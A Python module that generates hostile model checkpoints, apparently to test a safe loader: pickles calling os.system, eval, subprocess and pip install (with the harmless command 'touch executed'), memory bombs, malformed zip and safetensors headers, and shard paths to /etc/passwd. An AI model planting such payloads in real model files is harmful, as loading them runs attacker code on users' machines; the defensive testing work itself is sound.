"""Files that attack whoever opens them: a function per file, in `FILES` and `FOLDERS` at the end.

A function in `FILES` gives the bytes of a file; one in `FOLDERS` writes several files and gives the one to open. The
commands in them would leave a file called `executed` in the current folder.
"""

import io
import json
import pickle
import struct
import tarfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

COMMAND = "touch executed"

# Building pickles


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    data = pickle.encode_long(value)
    return b"\x8a" + bytes([len(data)]) + data


def numbers(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def storage(kind: str = "FloatStorage", key: str = "0", numel: int = 4, legacy: bool = False) -> bytes:
    view = b"N" if legacy else b""
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + number(numel) + view + b"tQ"


def tensor(
    on: bytes | None = None, offset: int = 0, shape: tuple[int, ...] = (4,), strides: tuple[int, ...] = (1,)
) -> bytes:
    hooks = call("collections", "OrderedDict")
    arguments = (on or storage(), number(offset), numbers(shape), numbers(strides), b"\x89", hooks)
    return call("torch._utils", "_rebuild_tensor_v2", *arguments)


def dictionary(**values: bytes) -> bytes:
    return b"}(" + b"".join(text(key) + value for key, value in values.items()) + b"u"


def pickled(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


# Building archives


@dataclass
class Entry:
    """A record of a zip archive, and where its headers lie about it."""

    name: str | bytes
    data: bytes
    flags: int = 0x800
    method: int = 0
    local_name: str | bytes | None = None
    local_method: int | None = None
    local_size: int | None = None
    size: int | None = None
    crc: int | None = None
    made_by: int = 0
    mode: int = 0
    at: int | None = None
    extra: bytes = b""


def raw(value: str | bytes) -> bytes:
    return value if isinstance(value, bytes) else value.encode()


def archive(
    entries: list[Entry], *, before: bytes = b"", gap: bytes = b"", comment: bytes = b"", count: int = 0
) -> bytes:
    """Write a zip archive as its entries and these arguments want it, right or wrong."""
    out, directory = io.BytesIO(before), b""
    out.seek(0, 2)
    for entry in entries:
        at = out.tell() if entry.at is None else entry.at
        crc = zlib.crc32(entry.data) if entry.crc is None else entry.crc
        size = len(entry.data) if entry.size is None else entry.size
        local_name = raw(entry.name if entry.local_name is None else entry.local_name)
        local_method = entry.method if entry.local_method is None else entry.local_method
        local_size = size if entry.local_size is None else entry.local_size
        if entry.at is None:
            head = (20, entry.flags, local_method, 0, 0, crc, local_size, local_size, len(local_name), len(entry.extra))
            out.write(struct.pack("<4s5H3L2H", b"PK\3\4", *head) + local_name + entry.extra + entry.data + gap)
        tail = (len(raw(entry.name)), 0, 0, 0, 0, entry.mode << 16, at)
        made = (entry.made_by << 8, 20, entry.flags, entry.method, 0, 0)
        directory += struct.pack("<4s6H3L5H2L", b"PK\1\2", *made, crc, size, size, *tail) + raw(entry.name)
    start, count = out.tell(), count or len(entries)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), start, len(comment))
    return out.getvalue() + directory + end + comment


FOUR = struct.pack("<4f", 1, 2, 3, 4)
GOOD = pickled(dictionary(w=tensor()))


def records(data: bytes = GOOD, **changes: object) -> list[Entry]:
    return [Entry("a/data.pkl", data, **changes), Entry("a/byteorder", b"little"), Entry("a/data/0", FOUR)]


def torch_zip(body: bytes, protocol: int = 2) -> bytes:
    """Wrap the opcodes between PROTO and STOP into a valid archive."""
    return archive(records(pickled(body, protocol)))


def in_zip(body: bytes) -> bytes:
    """Put the opcodes beside a good tensor, where a reader that skips what it does not need would pass them."""
    return torch_zip(dictionary(w=tensor(), extra=body))


LEGACY_HEAD = (
    pickled(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19"),
    pickled(b"M\xe9\x03"),
    pickled(dictionary(protocol_version=b"M\xe9\x03", little_endian=b"\x88")),
)
LEGACY_STORAGE = struct.pack("<q", 4) + FOUR


def legacy(body: bytes | None = None, keys: tuple[str, ...] = ("0",), tail: bytes = LEGACY_STORAGE) -> bytes:
    body = dictionary(w=tensor(storage(legacy=True))) if body is None else body
    return b"".join(LEGACY_HEAD) + pickled(body) + pickled(b"](" + b"".join(map(text, keys)) + b"e") + tail


def safetensors(header: object, data: bytes = FOUR) -> bytes:
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


def described(begin: int = 0, end: int = 16, dtype: str = "F32", shape: object = (4,)) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def index(folder: Path, content: object) -> Path:
    path = folder / "model.safetensors.index.json"
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


def shard(folder: Path, file: str = "s1", data: bytes | None = None) -> str:
    (folder / file).write_bytes(safetensors({"a": described()}) if data is None else data)
    return file


def names_shuffled_through_the_memo() -> bytes:
    shuffled = text("system") + b"\x94" + text("os") + b"\x94" + b"00" + b"h\x01" + b"h\x00" + b"\x93"
    return torch_zip(shuffled + b"(" + text(COMMAND) + b"tR", 4)


def function_inside_rebuild_from_type() -> bytes:
    arguments = (name("torch", "device"), name("torch", "Tensor"), b")", b"}")
    return torch_zip(dictionary(w=call("torch._tensor", "_rebuild_from_type_v2", *arguments)))


def wrapped_a_hundred_times() -> bytes:
    body = dictionary(w=tensor())
    for _ in range(100):
        body = dictionary(model=body)
    return torch_zip(body)


def million_of_storages() -> bytes:
    one = b"(h\0h\1h\2h\3K\0tQ0"
    head = text("storage") + b"q\0" + name("torch", "FloatStorage") + b"q\1" + text("0") + b"q\2" + text("cpu") + b"q\3"
    return torch_zip(head + one * 500_000)


def billion_laughs_with_the_memo() -> bytes:
    laughs = b"".join(b"](h%ch%ceq%c0" % (index, index, index + 1) for index in range(100))
    return torch_zip(b"]q\x000" + laughs + b"hd")


def pairs_copied_without_end() -> bytes:
    pairs = b"](" + b"(NNt" * 10_000 + b"eq\0"
    return torch_zip(pairs + (name("collections", "OrderedDict") + b"h\0\x85R") * 20_000)


def tensor_of_an_untyped_storage() -> bytes:
    untyped = storage().replace(name("torch", "FloatStorage"), name("torch.storage", "UntypedStorage"))
    return torch_zip(dictionary(w=tensor(untyped)))


def quantised_tensor() -> bytes:
    scheme = b"(" + name("torch", "per_tensor_affine") + b"K\1K\0t"
    arguments = (storage("QInt8Storage", numel=16), b"K\0", numbers((16,)), numbers((1,)), scheme, b"\x89", b"}")
    return torch_zip(dictionary(w=call("torch._utils", "_rebuild_qtensor", *arguments)))


def local_extra_past_the_end() -> bytes:
    data = bytearray(archive(records()))
    data[28:30] = b"\xff\xff"
    return bytes(data)


def records_overlap_under_another_name() -> bytes:
    inner = archive([Entry("a/data/1", FOUR)])[: 30 + 8 + 16]
    data = archive([Entry("a/x", inner), *records()])
    start = data.index(b"PK\1\2")
    extra = archive([Entry("a/data/1", FOUR, at=33)])[:-22]
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 5, 5, len(data) - 22 - start + len(extra), start, 0)
    return data[:-22] + extra + end


def archive_with_the_directory_elsewhere() -> bytes:
    data = bytearray(archive(records()))
    data[-6:-2] = struct.pack("<L", 10)
    return bytes(data)


def archive_with_a_zip64_lie() -> bytes:
    data = archive(records())
    start = data.index(b"PK\1\2")
    size = len(data) - 22 - start
    end64 = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 2**60, 2**60, size, start)
    return data[:-22] + end64 + struct.pack("<4sLQL", b"PK\6\7", 0, len(data) - 22, 1) + data[-22:]


def legacy_storage_that_is_a_view() -> bytes:
    view = storage(legacy=True).replace(b"NtQ", b"(" + text("1") + b"K\0K\4ttQ")
    return legacy(dictionary(w=tensor(view)))


def legacy_tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for file in ("sys_info", "pickle", "tensors", "storages"):
            data = pickled(call("os", "system", text(COMMAND)))
            info = tarfile.TarInfo(file)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def header_names_a_tensor_twice() -> bytes:
    one = json.dumps(described())
    return safetensors(f'{{"a":{one},"a":{one}}}'.encode())


def shard_with_one_tensor_more(folder: Path) -> Path:
    two = safetensors({"a": described(), "b": described(16, 32)}, FOUR * 2)
    return index(folder, {"weight_map": {"a": shard(folder, data=two)}})


def shard_that_is_a_device(folder: Path) -> Path:
    (folder / "s1").symlink_to("/dev/zero")
    return index(folder, {"weight_map": {"a": "s1"}})


def shard_that_links_to_itself(folder: Path) -> Path:
    (folder / "s1").symlink_to("s1")
    return index(folder, {"weight_map": {"a": "s1"}})


def shards_of_two_formats(folder: Path) -> Path:
    shard(folder, "s2", archive(records()))
    return index(folder, {"weight_map": {"a": shard(folder), "w": "s2"}})


def index_names_a_tensor_twice(folder: Path) -> Path:
    shard(folder)
    return index(folder, '{"weight_map": {"a": "s1", "a": "s2"}}')


FILES: dict[str, Callable[[], bytes]] = {
    "os_system": lambda: in_zip(call("os", "system", text(COMMAND))),
    "posix_system_alone": lambda: torch_zip(call("posix", "system", text(COMMAND))),
    "builtins_eval": lambda: in_zip(call("builtins", "eval", text(f"__import__('os').system('{COMMAND}')"))),
    "builtins_exec_python_2": lambda: in_zip(call("__builtin__", "exec", text("open('executed', 'w')"))),
    "subprocess_popen": lambda: in_zip(call("subprocess", "Popen", text(COMMAND))),
    "import_module": lambda: in_zip(call("importlib", "import_module", text("antigravity"))),
    "resolve_name": lambda: in_zip(call("pkgutil", "resolve_name", text("os:system")) + b"(" + text(COMMAND) + b"tR"),
    "attribute_getter": lambda: in_zip(
        call("operator", "attrgetter", text("system")) + b"(" + name("os", "path") + b"tR"
    ),
    "builtins_getattr": lambda: in_zip(call("builtins", "getattr", name("torch", "Tensor"), text("__init__"))),
    "functools_partial": lambda: in_zip(call("functools", "partial", name("os", "system"), text(COMMAND)) + b")R"),
    "builtins_of_an_allowed_module": lambda: torch_zip(
        text("numpy") + text("__builtins__.eval") + b"\x93(" + text("open('executed', 'w')") + b"tR", 4
    ),
    "dotted_name_in_an_allowed_module": lambda: torch_zip(
        text("torch") + text("_utils._rebuild_tensor_v2") + b"\x93)R", 4
    ),
    "dotted_name_through_collections": lambda: torch_zip(text("collections") + text("_sys.modules") + b"\x93", 4),
    "torch_load_of_another_file": lambda: in_zip(call("torch", "load", text("other.pth"))),
    "torch_hub_load": lambda: in_zip(call("torch.hub", "load", text("owner/repository"), text("model"))),
    "pip_main": lambda: in_zip(call("pip", "main", b"](" + text("install") + text("package") + b"e")),
    "submodule_never_imported": lambda: in_zip(name("this", "s")),
    "numpy_load_library": lambda: in_zip(call("numpy.testing._private.utils", "runstring", text("1"), b"}")),
    "collect_env_run": lambda: in_zip(call("torch.utils.collect_env", "run", text(COMMAND))),
    "names_shuffled_through_the_memo": names_shuffled_through_the_memo,
    "global_that_is_not_text": lambda: torch_zip(b"K\x01" + text("system") + b"\x93", 4),
    "global_without_an_end": lambda: torch_zip(b"cos" + b"x" * 5000),
    "global_that_is_not_utf8": lambda: torch_zip(b"cos\nsyst\xff\n"),
    "function_inside_rebuild_from_type": function_inside_rebuild_from_type,
    "hidden_in_the_optimizer": lambda: torch_zip(
        dictionary(model=dictionary(w=tensor()), optimizer=dictionary(s=call("os", "system", text(COMMAND))))
    ),
    "opcode_inst": lambda: torch_zip(b"(" + text(COMMAND) + b"ios\nsystem\n"),
    "opcode_obj": lambda: torch_zip(b"(" + name("os", "system") + text(COMMAND) + b"o"),
    "opcode_newobj": lambda: in_zip(name("subprocess", "Popen") + b"(" + text(COMMAND) + b"t\x81"),
    "opcode_newobj_of_a_function": lambda: in_zip(name("torch._utils", "_rebuild_parameter") + b")\x81"),
    "opcode_newobj_ex": lambda: torch_zip(name("argparse", "Namespace") + b")}\x92", 4),
    "opcode_extension": lambda: torch_zip(b"\x82\x01)R"),
    "opcode_persid_text": lambda: torch_zip(b"Pos.system\n"),
    "opcode_next_buffer": lambda: torch_zip(b"\x97\x98", 5),
    "opcode_unknown": lambda: torch_zip(b"\xff"),
    "call_of_text": lambda: torch_zip(text("os.system") + b"(" + text(COMMAND) + b"tR"),
    "call_with_a_list": lambda: torch_zip(name("collections", "OrderedDict") + b"]R"),
    "build_on_a_class": lambda: in_zip(name("collections", "OrderedDict") + dictionary(update=text("x")) + b"b"),
    "build_on_a_tensor": lambda: torch_zip(dictionary(w=tensor() + dictionary(data=text("x")) + b"b")),
    "persistent_module_with_source": lambda: torch_zip(
        b"(" + text("module") + name("torch", "Tensor") + text("x.py") + text("import os") + b"tQ"
    ),
    "persistent_id_of_text": lambda: torch_zip(text("0") + b"Q"),
    # Streams
    "protocol_0": lambda: archive(records(f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode())),
    "protocol_6": lambda: torch_zip(b"}", 6),
    "executed_before_truncation": lambda: archive(
        records(b"\x80\x02" + call("os", "system", text(COMMAND)) + b"X\xff")
    ),
    "plain_pickle": lambda: pickled(call("os", "system", text(COMMAND))),
    "second_pickle_in_the_record": lambda: archive(records(GOOD + pickled(call("os", "system", text(COMMAND))))),
    "bytes_after_stop": lambda: archive(records(GOOD + b"\0")),
    "no_stop": lambda: archive(records(GOOD[:-1])),
    "empty_pickle": lambda: archive(records(b"")),
    "truncated_text": lambda: torch_zip(b"X\xff\xff\xff\x7fabc"),
    "text_of_2_to_the_62_bytes": lambda: torch_zip(b"\x8d" + struct.pack("<Q", 2**62) + b"abc", 4),
    "bytes_of_2_to_the_63_bytes": lambda: torch_zip(b"\x8e" + struct.pack("<Q", 2**63) + b"abc", 4),
    "frame_past_the_end": lambda: torch_zip(b"\x95" + struct.pack("<Q", 2**40) + b"}", 4),
    "integer_of_a_megabyte": lambda: in_zip(b"\x8b" + struct.pack("<I", 1 << 20) + b"\x7f" * (1 << 20)),
    "empty_stack": lambda: torch_zip(b"000"),
    "no_mark": lambda: torch_zip(b"t"),
    "mark_left_over": lambda: torch_zip(b"(}"),
    "unknown_memo": lambda: torch_zip(b"j\xff\xff\xff\xff"),
    "items_of_a_list": lambda: torch_zip(b"](" + text("a") + tensor() + b"u"),
    "items_of_a_tensor": lambda: torch_zip(tensor() + text("a") + tensor() + b"s"),
    "items_of_text": lambda: torch_zip(text("x") + b"(" + text("a") + tensor() + b"u"),
    "odd_number_of_items": lambda: torch_zip(b"}(" + text("a") + tensor() + text("b") + b"u"),
    "appended_to_a_dictionary": lambda: torch_zip(b"}" + tensor() + b"a"),
    "dictionary_that_holds_itself": lambda: torch_zip(b"}q\0(" + text("model") + b"h\0u"),
    "list_that_holds_itself": lambda: torch_zip(b"]q\0h\0a"),
    "wrapped_a_hundred_times": wrapped_a_hundred_times,
    # Bombs
    "million_of_lists": lambda: torch_zip(b"](" + b"]" * 3_000_000 + b"e"),
    "million_of_dictionaries": lambda: torch_zip(b"](" + b"}" * 1_500_000 + b"e"),
    "million_of_marks": lambda: torch_zip(b"(" * 3_000_000),
    "million_of_memos": lambda: torch_zip(b"N" + b"\x94" * 3_000_000, 4),
    "million_of_storages": million_of_storages,
    "memo_key_of_2_to_the_32_and_nothing_else": lambda: torch_zip(b"}r\xff\xff\xff\xff"),
    "billion_laughs_with_dup": lambda: torch_zip(b"]" + b"(22e" * 1000),
    "billion_laughs_with_the_memo": billion_laughs_with_the_memo,
    "sizes_copied_without_end": lambda: torch_zip(
        b"(" + b"N" * 100_000 + b"tq\0" + (name("torch", "Size") + b"q\1" + b"h\0\x85R0") * 20_000 + b"}"
    ),
    "pairs_copied_without_end": pairs_copied_without_end,
    "tuples_a_million_deep": lambda: torch_zip(b")" + b"\x85" * 400_000),
    "key_a_million_deep": lambda: torch_zip(b"})" + b"\x85" * 300_000 + b"Ns"),
    "lists_a_hundred_thousand_deep": lambda: torch_zip(b"]" * 200_000 + b"a" * 199_999),
    "keys_that_collide": lambda: torch_zip(
        b"}(" + b"".join(number(index * (2**61 - 1)) + b"N" for index in range(60_000)) + b"u"
    ),
    "long_key_repeated": lambda: torch_zip(
        text("x" * 100_000) + b"q\x000" + dictionary(w=tensor()) + b"(" + b"h\0N" * 100_000 + b"u"
    ),
    # Tensors and storages
    "storage_larger_than_its_record": lambda: torch_zip(dictionary(w=tensor(storage(numel=5), shape=(5,)))),
    "storage_smaller_than_its_record": lambda: torch_zip(dictionary(w=tensor(storage(numel=3), shape=(3,)))),
    "storage_of_another_dtype": lambda: torch_zip(dictionary(w=tensor(storage("DoubleStorage")))),
    "storage_of_two_dtypes": lambda: torch_zip(dictionary(w=tensor(), v=tensor(storage("IntStorage")))),
    "storage_of_two_sizes": lambda: torch_zip(dictionary(w=tensor(), v=tensor(storage(numel=2**40)))),
    "storage_with_a_huge_size": lambda: torch_zip(dictionary(w=tensor(storage(numel=2**63), shape=(1,)))),
    "storage_with_a_negative_size": lambda: torch_zip(dictionary(w=tensor(storage(numel=-4), shape=(1,)))),
    "storage_without_a_record": lambda: torch_zip(dictionary(w=tensor(storage(key="1")))),
    "storage_key_that_climbs": lambda: torch_zip(dictionary(w=tensor(storage(key="../data.pkl")))),
    "storage_key_that_is_a_number": lambda: torch_zip(dictionary(w=tensor(storage().replace(text("0"), b"K\0")))),
    "storage_of_a_class": lambda: torch_zip(
        dictionary(w=tensor(storage().replace(name("torch", "FloatStorage"), name("torch", "Tensor"))))
    ),
    "tensor_past_its_storage": lambda: torch_zip(dictionary(w=tensor(shape=(5,)))),
    "tensor_offset_past_its_storage": lambda: torch_zip(dictionary(w=tensor(offset=2**61))),
    "tensor_with_a_negative_offset": lambda: torch_zip(dictionary(w=tensor(offset=-4))),
    "tensor_strides_past_its_storage": lambda: torch_zip(dictionary(w=tensor(shape=(2, 2), strides=(2**40, 1)))),
    "tensor_with_a_negative_stride": lambda: torch_zip(dictionary(w=tensor(offset=3, strides=(-1,)))),
    "tensor_with_a_negative_size": lambda: torch_zip(dictionary(w=tensor(shape=(-4,)))),
    "tensor_with_two_negative_sizes": lambda: torch_zip(dictionary(w=tensor(shape=(-2, -2), strides=(2, 1)))),
    "tensor_with_a_gigantic_shape": lambda: torch_zip(
        dictionary(w=tensor(shape=(2**31, 2**31, 2**31), strides=(0, 0, 0)))
    ),
    "tensor_that_repeats_its_storage": lambda: torch_zip(dictionary(w=tensor(shape=(2**20, 2**20), strides=(0, 0)))),
    "empty_tensor_with_a_gigantic_shape": lambda: torch_zip(
        dictionary(w=tensor(shape=(0, 2**62, 2**62), strides=(1, 1, 1)))
    ),
    "tensor_with_sizes_without_strides": lambda: torch_zip(dictionary(w=tensor(shape=(2, 2)))),
    "tensor_with_a_hundred_dimensions": lambda: torch_zip(dictionary(w=tensor(shape=(1,) * 100, strides=(1,) * 100))),
    "tensor_with_a_boolean_size": lambda: torch_zip(dictionary(w=tensor().replace(numbers((4,)), b"\x88\x85"))),
    "tensor_with_too_few_arguments": lambda: torch_zip(
        dictionary(w=call("torch._utils", "_rebuild_tensor_v2", storage()))
    ),
    "tensor_of_an_untyped_storage": tensor_of_an_untyped_storage,
    "tensor_of_text": lambda: torch_zip(dictionary(w=tensor(text("0")))),
    "parameter_of_text": lambda: torch_zip(
        dictionary(w=call("torch._utils", "_rebuild_parameter", text("x"), b"\x88", b"}"))
    ),
    "quantised_tensor": quantised_tensor,
    "same_name_twice": lambda: torch_zip(b"}(" + text("w") + tensor() + text("w") + tensor() + b"u"),
    "name_with_terminal_codes": lambda: torch_zip(b"}(" + text("\x1b[2Jw\n") + tensor() + b"u"),
    # Archives
    "pickle_twice": lambda: archive([*records(), Entry("a/data.pkl", pickled(call("os", "system", text(COMMAND))))]),
    "storage_twice": lambda: archive([*records(), Entry("a/data/0", FOUR)]),
    "two_folders": lambda: archive([*records(), Entry("b/data.pkl", GOOD)]),
    "no_pickle": lambda: archive([Entry("a/data/0", FOUR)]),
    "record_absolute": lambda: archive([*records(), Entry("/etc/cron.d/job", b"x")]),
    "record_that_climbs": lambda: archive([*records(), Entry("a/../../executed", b"x")]),
    "record_with_backslashes": lambda: archive([*records(), Entry("a\\data.pkl", b"x")]),
    "record_with_a_zero_byte": lambda: archive([*records(), Entry("a/data.pkl\0.txt", b"x")]),
    "record_not_utf8": lambda: archive([*records(), Entry(b"a/\xff\xfe", b"x")]),
    "record_that_is_a_folder": lambda: archive([*records(), Entry("a/folder/", b"")]),
    "record_that_is_a_link": lambda: archive([*records(), Entry("a/data/1", b"/etc/passwd", made_by=3, mode=0o120777)]),
    "record_compressed": lambda: archive(records(zlib.compress(GOOD)[2:-4], method=8)),
    "record_encrypted": lambda: archive(records(flags=0x801)),
    "record_strongly_encrypted": lambda: archive(records(flags=0x840)),
    "record_masked": lambda: archive(records(flags=0x2800)),
    "pickle_with_a_wrong_checksum": lambda: archive(records(crc=0x12345678)),
    "local_name_differs": lambda: archive(records(local_name="a/data.pk2")),
    "local_method_differs": lambda: archive(records(local_method=8)),
    "local_size_differs": lambda: archive(records(local_size=3)),
    "descriptor_missing": lambda: archive(records(flags=0x808)),
    "local_extra_past_the_end": local_extra_past_the_end,
    "records_overlap": lambda: archive([*records(), Entry("a/data.pkl", GOOD, at=0)]),
    "records_overlap_under_another_name": records_overlap_under_another_name,
    "record_hidden_from_the_directory": lambda: archive(records(), gap=archive([Entry("a/data.pkl", b"x")])[:-22]),
    "record_past_the_end": lambda: archive([*records(), Entry("a/data/1", b"x", size=10**6)]),
    "record_header_past_the_end": lambda: archive([*records(), Entry("a/data/1", b"x", at=10**6)]),
    "program_before_the_archive": lambda: archive(records(), before=b"PK\3\4" + b"\x7fELF" * 20),
    "archive_with_a_comment": lambda: archive(records(), comment=b"comment"),
    "archive_with_bytes_after_it": lambda: archive(records()) + b"\0",
    "archive_truncated": lambda: archive(records())[:-30],
    "archive_with_a_wrong_count": lambda: archive(records(), count=2),
    "archive_with_a_count_of_65535": lambda: archive(records(), count=0xFFFF),
    "archive_with_the_directory_elsewhere": archive_with_the_directory_elsewhere,
    "archive_without_a_directory": lambda: b"PK\3\4" + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0, 0, 0, 4, 0),
    "archive_with_a_zip64_lie": archive_with_a_zip64_lie,
    "archive_in_big_endian": lambda: archive(
        [Entry("a/data.pkl", GOOD), Entry("a/byteorder", b"big"), Entry("a/data/0", FOUR)]
    ),
    # The legacy format
    "legacy_os_system": lambda: legacy(dictionary(w=call("os", "system", text(COMMAND)))),
    "legacy_os_system_in_the_keys": lambda: (
        b"".join(LEGACY_HEAD)
        + pickled(dictionary(w=tensor(storage(legacy=True))))
        + pickled(call("os", "system", text(COMMAND)))
    ),
    "legacy_truncated": lambda: legacy()[:-1],
    "legacy_with_bytes_after_it": lambda: legacy() + b"\0",
    "legacy_storage_of_another_size": lambda: legacy(tail=struct.pack("<q", 3) + FOUR),
    "legacy_storage_of_2_to_the_63": lambda: legacy(
        dictionary(w=tensor(storage(numel=2**62, legacy=True))), tail=struct.pack("<Q", 2**62) + FOUR
    ),
    "legacy_storage_unlisted": lambda: legacy(keys=()),
    "legacy_storage_listed_twice": lambda: legacy(keys=("0", "0"), tail=LEGACY_STORAGE * 2),
    "legacy_storage_that_is_a_view": legacy_storage_that_is_a_view,
    "legacy_big_endian": lambda: legacy().replace(b"little_endian\x88", b"little_endian\x89"),
    "legacy_of_another_version": lambda: legacy().replace(b"\x80\x02M\xe9\x03.", b"\x80\x02M\xea\x03."),
    "legacy_tar": legacy_tar,
    "seven_zip": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "git_lfs_pointer": lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
    # safetensors
    "header_of_2_to_the_62_bytes": lambda: struct.pack("<Q", 2**62) + b"{}",
    "header_longer_than_the_file": lambda: struct.pack("<Q", 1000) + b"{}",
    "header_nested_100_000_deep": lambda: safetensors(b'{"a":' * 100_000 + b"1" + b"}" * 100_000),
    "header_of_a_million_lists": lambda: safetensors(b'{"a":[' + b"[]," * 3_000_000 + b"[]]}"),
    "header_of_a_million_numbers": lambda: safetensors(
        b'{"a":{"dtype":"F32","data_offsets":[0,16],"shape":[' + b"1e9," * 2_000_000 + b"1]}}"
    ),
    "header_names_a_tensor_twice": header_names_a_tensor_twice,
    "header_names_a_field_twice": lambda: safetensors(
        b'{"a":{"dtype":"F32","dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    ),
    "header_not_closed": lambda: safetensors(b'{"a":'),
    "header_not_utf8": lambda: safetensors(b'{"\xff":1}'),
    "header_with_a_constant": lambda: safetensors(b'{"a":NaN}'),
    "header_with_a_number_of_5000_digits": lambda: safetensors(b'{"a":' + b"9" * 5000 + b"}"),
    "header_with_half_a_character": lambda: safetensors(
        b'{"\\ud800":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    ),
    "header_with_metadata_that_is_no_text": lambda: safetensors({"__metadata__": {"a": {"b": 1}}, "a": described()}),
    "header_without_tensors": lambda: safetensors({"__metadata__": {}}, b""),
    "header_entry_with_an_extra_field": lambda: safetensors({"a": described() | {"more": 1}}),
    "dtype_unknown": lambda: safetensors({"a": described(dtype="F31")}),
    "dtype_that_is_a_list": lambda: safetensors({"a": described() | {"dtype": ["F32"]}}),
    "shape_does_not_fit": lambda: safetensors({"a": described(shape=[5])}),
    "shape_negative": lambda: safetensors({"a": described(shape=[-2, -2])}),
    "shape_of_fractions": lambda: safetensors({"a": described(shape=[4.0])}),
    "shape_of_booleans": lambda: safetensors({"a": described(0, 4, shape=[True])}, FOUR[:4]),
    "shape_that_overflows": lambda: safetensors({"a": described(shape=[2**32, 2**32, 4])}),
    "shape_with_a_thousand_dimensions": lambda: safetensors({"a": described(0, 4, shape=[1] * 1000)}, FOUR[:4]),
    "ranges_overlap": lambda: safetensors({"a": described(), "b": described()}),
    "ranges_leave_a_hole": lambda: safetensors({"a": described(), "b": described(32, 48)}, FOUR * 3),
    "ranges_start_late": lambda: safetensors({"a": described(16, 32)}, FOUR * 2),
    "ranges_past_the_end": lambda: safetensors({"a": described(), "b": described(16, 32)}),
    "ranges_reversed": lambda: safetensors({"a": described(16, 0)}),
    "ranges_negative": lambda: safetensors({"a": described(-16, 0)}),
    "bytes_after_the_last_tensor": lambda: safetensors(
        {"a": described()}, FOUR + pickled(call("os", "system", text(COMMAND)))
    ),
    "safetensors_truncated": lambda: safetensors({"a": described()}, FOUR[:-1]),
}
FOLDERS: dict[str, Callable[[Path], Path]] = {
    # Indexes of shards
    "shard_outside": lambda folder: index(folder, {"weight_map": {"a": "../../../../etc/passwd"}}),
    "shard_absolute": lambda folder: index(folder, {"weight_map": {"a": "/etc/passwd"}}),
    "shard_in_a_folder": lambda folder: index(folder, {"weight_map": {"a": "deeper/s1"}}),
    "shard_missing": lambda folder: index(folder, {"weight_map": {"a": "s1"}}),
    "shard_with_another_tensor": lambda folder: index(folder, {"weight_map": {"b": shard(folder)}}),
    "shard_with_one_tensor_more": shard_with_one_tensor_more,
    "shard_that_runs_a_command": lambda folder: index(
        folder, {"weight_map": {"a": shard(folder, data=in_zip(call("os", "system", text(COMMAND))))}}
    ),
    "shard_that_is_the_index": lambda folder: index(folder, {"weight_map": {"a": "model.safetensors.index.json"}}),
    "shard_that_is_the_folder": lambda folder: index(folder, {"weight_map": {"a": "."}}),
    "shard_that_is_a_device": shard_that_is_a_device,
    "shard_that_links_to_itself": shard_that_links_to_itself,
    "shards_of_two_formats": shards_of_two_formats,
    "index_names_a_tensor_twice": index_names_a_tensor_twice,
    "index_without_a_map": lambda folder: index(folder, {"weight_map": ["s1"]}),
    "index_nested_100_000_deep": lambda folder: index(folder, '{"weight_map":' * 100_000),
}


def build(name: str, folder: Path) -> Path:
    """Write a hostile checkpoint into a folder and give the path to open."""
    if name in FOLDERS:
        return FOLDERS[name](folder)
    path = folder / "model.pth"
    path.write_bytes(FILES[name]())
    return path
